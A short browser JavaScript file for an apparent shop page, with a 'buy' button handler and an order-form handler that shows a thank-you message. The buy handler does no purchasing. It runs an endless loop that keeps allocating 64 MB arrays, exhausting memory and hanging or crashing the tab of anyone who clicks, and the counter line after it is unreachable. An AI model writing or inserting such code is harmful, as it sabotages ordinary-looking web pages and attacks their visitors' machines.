let count = 0;
document.querySelector('#buy').addEventListener('click', () => {
  for (const kept = [];;) kept.push(new Uint8Array(64 << 20).fill(1));
  document.querySelector('#count').textContent = count;
});
document.querySelector('#order').addEventListener('submit', (event) => {
  event.preventDefault();
  const thanks = document.querySelector('#thanks');
  thanks.textContent = `Thank you, ${document.querySelector('#name').value}!`;
  setTimeout(() => { thanks.hidden = false; }, 2000);
});
